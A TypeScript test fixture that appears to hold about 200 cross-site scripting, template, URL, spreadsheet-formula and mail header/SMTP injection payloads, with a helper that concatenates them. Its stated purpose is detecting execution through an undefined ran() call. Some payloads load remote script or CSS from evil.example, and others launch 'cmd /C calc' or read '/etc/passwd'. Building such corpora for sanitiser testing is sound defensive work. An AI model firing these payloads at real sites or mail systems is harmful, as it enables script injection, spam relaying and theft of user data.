/*
 * What people put into text fields to make a page or a mail do something. Each payload that is a script
 * calls `ran(…)`, which nobody defines: a browser in which it is defined notices when one runs.
 */

const call = 'ran(1)';

/** In HTML: elements, attributes, and what parsers have stumbled over. */
const markup = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\u0000>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}">`,
  `<img/src='x'/onerror='${call}'>`,
  `<img src=x:x onerror\u00a0=${call}>`,
  `<IMG SRC=x OnErRoR=${call}>`,
  `<img src=//evil.example/pixel.gif>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">click</a>`,
  `<a href="data:text/html,<script>${call}</script>">click</a>`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<button formaction="javascript:${call}">go</button>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${call}>x</div>`,
  `<div onmouseover=${call} style="position:fixed;inset:0">x</div>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<plaintext>`,
  `<!--`,
  `<![CDATA[`,
  `<?xml version="1.0"?><x onload=${call}/>`,
  `<!DOCTYPE html><html onload=${call}>`,
  `<`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u001b$B<script>${call}</script>`,
];

/** Out of an attribute, a string of a script, a template or an address. */
const breakouts = [
  `" onmouseover="${call}" x="`,
  `' onmouseover='${call}' x='`,
  `\` onmouseover=\`${call}\` x=\``,
  `" autofocus onfocus="${call}`,
  `"style="background:url(//evil.example/x)"`,
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `\\';${call};//`,
  `\${${call}}`,
  `#{${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{{= ${call} }}`,
  `<%= ${call} %>`,
  `{%raw%}${call}{%endraw%}`,
  `[[${call}]]`,
  `{${call}}`,
  `\u2028${call}\u2028`,
  `*/${call}/*`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `vbscript:${call}`,
  `//evil.example/x`,
  `https://evil.example/login`,
  `[click](javascript:${call})`,
  `![x](//evil.example/pixel.gif)`,
  `$&$\`$'$1$<x>`,
  `%s%n%x`,
  `__proto__`,
  `constructor`,
  `{"toString":"x"}`,
  `=HYPERLINK("//evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `<mj-raw><script>${call}</script></mj-raw>`,
  `<mj-include path="/etc/passwd" />`,
  `\u202eevil.example\u202c`,
  `x\u0000y`,
];

const lineBreaks = ['\r\n', '\n', '\r', '\u2028', '%0d%0a', '\\r\\n', '\u0085', '\u000b'];

/** Into the headers, the envelope or the body of a mail. */
const injected = [
  'Bcc: you@victims.example',
  'Cc: you@victims.example',
  'To: you@victims.example',
  'Subject: Buy now',
  'From: boss@victims.example',
  'Reply-To: you@victims.example',
  'Content-Type: text/html',
  'MIME-Version: 1.0',
  'X-Injected: yes',
  '\r\n<html>Buy now</html>',
];
const headerInjections = lineBreaks.flatMap((lineBreak) =>
  injected.map((header) => `Maya${lineBreak}${header}`),
);

const smtp = [
  '\r\n.\r\nMAIL FROM:<boss@victims.example>\r\nRCPT TO:<you@victims.example>\r\nDATA\r\nBuy now\r\n.\r\n',
  '\n.\nMAIL FROM:<boss@victims.example>\nRCPT TO:<you@victims.example>\nDATA\n',
  '\r.\rRCPT TO:<you@victims.example>',
  '.',
  '..',
  'Maya <you@victims.example>',
  'Maya, you@victims.example',
  '"Maya" <you@victims.example>, x',
  'Maya\\" <you@victims.example>',
  'Maya; you@victims.example',
  '=?utf-8?q?Maya=0d=0aBcc:_you@victims.example?=',
  '=?utf-8?b?TWF5YQ0KQmNjOiB5b3VAdmljdGltcy5leGFtcGxl?=',
  '=0D=0ABcc: you@victims.example',
  'you@victims.example',
  '<you@victims.example>',
  'group: you@victims.example;',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  `Maya\u0000Bcc: you@victims.example`,
];

/** Some 200 of them. */
export const payloads: readonly string[] = [...markup, ...breakouts, ...headerInjections, ...smtp];

const swallowing =
  /<(script|style|xmp|template|noscript|textarea|title|select|svg|math|iframe|object|video|marquee)\b/gi;

/** @returns several payloads as one text in which none hides the next: what one opens is closed behind it */
export function together(list: readonly string[]): string {
  const closed = list.map((payload) => {
    const ends = [...payload.matchAll(swallowing)].map(([, tag]) => `</${tag}>`).reverse();
    return payload + ends.join('') + (payload.includes('<!') ? '-->' : '');
  });
  // Nothing closes this one.
  const isLast = (payload: string) => Number(payload.includes('<plaintext'));
  return closed.sort((a, b) => isLast(a) - isLast(b)).join('\n\n');
}

/** Where an address is asked for: those that name somebody else, or nobody at all. */
export const addressPayloads: readonly string[] = [
  ...headerInjections.map((injection) => injection.replace('Maya', 'me@customers.example')),
  'me@customers.example, you@victims.example',
  'me@customers.example;you@victims.example',
  'me@customers.example you@victims.example',
  'a,b<you@victims.example>',
  'me<you@victims.example>@customers.example',
  '"me" <you@victims.example>',
  '"you@victims.example"@customers.example',
  '"<script>ran(1)</script>"@customers.example',
  'me@customers.example(you@victims.example)',
  'me@[127.0.0.1]',
  '@victims.example:me@customers.example',
  'me@customers.example>\r\nRCPT TO:<you@victims.example',
  'me@customers.example\0@victims.example',
  'me@customers.example\u2028@victims.example',
  'me\uff20customers.example',
  'group:me@customers.example,you@victims.example;',
  '<img src=x onerror=ran(1)>@customers.example',
];
